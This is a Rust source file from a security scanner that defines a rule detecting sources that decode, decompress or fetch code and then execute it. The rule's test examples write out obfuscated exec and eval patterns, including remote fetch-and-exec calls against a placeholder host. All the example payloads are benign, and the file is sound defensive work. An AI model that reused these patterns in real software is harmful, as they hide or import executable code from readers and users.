//! Sources that run what they decode or fetch.

use weighbridge_domain::{Confidence, Severity};

use super::source::{self, Scale, Told};
use super::{Check, Example, Findings, Light, Rule};
use crate::facts::Facts;
use crate::known::effects::Effect;
use crate::samples::script::{function as script_function, page, script};
use crate::samples::source::{forward, function, module};
use crate::text;

/// Sources that run what they decode or fetch.
pub static RULE: Rule = Rule {
    id: "source-decodes-and-runs",
    severity: Severity::Critical,
    confidence: Confidence::High,
    light: Light::Content,
    since: "0.1.0",
    summary: "A source runs what it decodes or fetches",
    why: "Code is encoded, compressed or left on another host so that nobody who reads the source reads it. Critical when it \
          runs as soon as the file is imported or installed, high while the model is loaded or answers, medium in a function \
          that somebody has to call. Constants are decoded and read: what they do is reported beside this. A step milder in \
          scripts that no loader of models runs by itself (JavaScript).",
    advice: "Do not import the file. Decode the text elsewhere if you have to know what it does.",
    references: &["CWE-506", "CWE-94", "AML.T0010", "AML.T0011"],
    examples: &[
        Example { name: "javascript", files: || script("eval(atob('dm9pZCAw'))"), fires: FIRES },
        Example { name: "javascript-twin", files: || script("console.log(atob('dm9pZCAw'))"), fires: &[] },
        Example {
            name: "javascript-buffer",
            files: || {
                script("const code = Buffer.from('dm9pZCAw', 'base64').toString();\nnew Function(code)()")
            },
            fires: FIRES,
        },
        Example {
            name: "javascript-buffer-twin",
            files: || script("const text = Buffer.from('dm9pZCAw', 'base64').toString();\nnew Text(text)"),
            fires: &[],
        },
        Example {
            name: "javascript-characters",
            files: || page("window['eval'](String.fromCharCode(118, 111, 105, 100, 32, 48))"),
            fires: FIRES,
        },
        Example {
            name: "javascript-fetched",
            files: || script("eval(await (await fetch('https://demo.invalid')).text())"),
            fires: &["source-decodes-and-runs", "source-opens-network"],
        },
        Example {
            name: "javascript-packed",
            files: || script("eval(function(p,a,c,k,e,d){return p}('0 1',2,2,'void|0'.split('|'),0,{}))"),
            fires: FIRES,
        },
        Example {
            name: "javascript-function",
            files: || script_function("setTimeout(unescape('void%200'), 1)"),
            fires: FIRES,
        },
        Example {
            name: "base64",
            files: || module("import base64\nexec(base64.b64decode('cHJpbnQoImRlbW8iKQ=='))"),
            fires: FIRES,
        },
        Example {
            name: "base64-twin",
            files: || module("import base64\nprint(base64.b64decode('cHJpbnQoImRlbW8iKQ=='))"),
            fires: &[],
        },
        Example {
            name: "base64-that-acts",
            files: || {
                module(
                    "import base64\nexec(base64.b64decode('aW1wb3J0IG9zO29zLnN5c3RlbSgiZWNobyB3ZWlnaGJyaWRnZS1kZW1vIik='))",
                )
            },
            fires: &["source-decodes-and-runs", "source-starts-process"],
        },
        Example {
            name: "in-steps",
            files: || {
                module(
                    "import base64, zlib\nfrom demo import data\na = base64.b64decode(data)\nb = zlib.decompress(a).decode()\nc = compile(b, 'demo', 'exec')\nexec(c)",
                )
            },
            fires: FIRES,
        },
        Example {
            name: "in-steps-twin",
            files: || {
                module(
                    "import base64, zlib\nfrom demo import data\na = base64.b64decode(data)\nb = zlib.decompress(a).decode()\nprint(b)",
                )
            },
            fires: &[],
        },
        Example {
            name: "hexadecimal",
            files: || module("exec(bytes.fromhex('7072696e74282264656d6f2229').decode())"),
            fires: FIRES,
        },
        Example {
            name: "rotated",
            files: || module("import codecs\neval(codecs.decode('cevag(\"qrzb\")', 'rot13'))"),
            fires: FIRES,
        },
        Example {
            name: "marshal",
            files: || module("import marshal\nfrom demo import data\nexec(marshal.loads(data))"),
            fires: &["source-decodes-and-runs", "source-unsafe-load"],
        },
        Example {
            name: "fetched",
            files: || forward("import requests", "exec(requests.get('https://demo.invalid/a').text)"),
            fires: &["source-decodes-and-runs", "source-opens-network"],
        },
        Example {
            name: "fetched-and-opened",
            files: || {
                function(
                    "from urllib.request import urlopen",
                    "with urlopen('https://demo.invalid/a') as r:\n    code = r.read()\nexec(code)",
                )
            },
            fires: &["source-decodes-and-runs", "source-opens-network"],
        },
        Example {
            name: "by-lambda",
            files: || {
                module(
                    "_ = lambda x: __import__('zlib').decompress(__import__('base64').b64decode(x[::-1]))\nfrom demo import data\nexec((_)(data))",
                )
            },
            fires: FIRES,
        },
        Example {
            name: "by-lambda-twin",
            files: || {
                module(
                    "_ = lambda x: __import__('zlib').decompress(__import__('base64').b64decode(x[::-1]))\nfrom demo import data\nprint((_)(data))",
                )
            },
            fires: &[],
        },
        Example {
            name: "function-of-code",
            files: || {
                module(
                    "import marshal, types\nfrom demo import data\ntypes.FunctionType(marshal.loads(data), globals())()",
                )
            },
            fires: &["source-decodes-and-runs", "source-unsafe-load"],
        },
        Example {
            name: "function-of-code-twin",
            files: || module("import marshal\nfrom demo import data\nprint(marshal.loads(data))"),
            fires: &["source-unsafe-load"],
        },
        Example {
            name: "command",
            files: || {
                module(
                    "import base64, os\nos.system(base64.b64decode('ZWNobyB3ZWlnaGJyaWRnZS1kZW1v').decode())",
                )
            },
            fires: FIRES,
        },
    ],
    check: Check::File(check),
};

const FIRES: &[&str] = &["source-decodes-and-runs"];

const SCALE: Scale = [Severity::Medium, Severity::High, Severity::Critical];

fn check(facts: &Facts, findings: &mut Findings<'_>) {
    let mut told = Told::default();
    for effect in [Effect::RunsCode, Effect::StartsProcess] {
        for (place, one) in source::uses(facts, effect) {
            let Some((by, brought)) = source::brought(one) else { continue };
            // To make code is a step; where it is run, that is told.
            if one.name.ends_with(".compile") {
                continue;
            }
            let verb = if brought == Effect::Network { "fetches" } else { "decodes" };
            let by = text::shown(&by.to_string(), 60);
            // A cell of a notebook is there to be run.
            let least = if place.format() == "notebook-cell" { Severity::High } else { Severity::Medium };
            let severity = match &*by {
                // Libraries of another time were shipped like that.
                "unpacker.unpack" => Severity::Medium,
                _ => source::at_for(SCALE, one).max(least),
            };
            told.add(findings, place, one, severity, &format!("runs what `{by}` {verb},"));
        }
    }
}
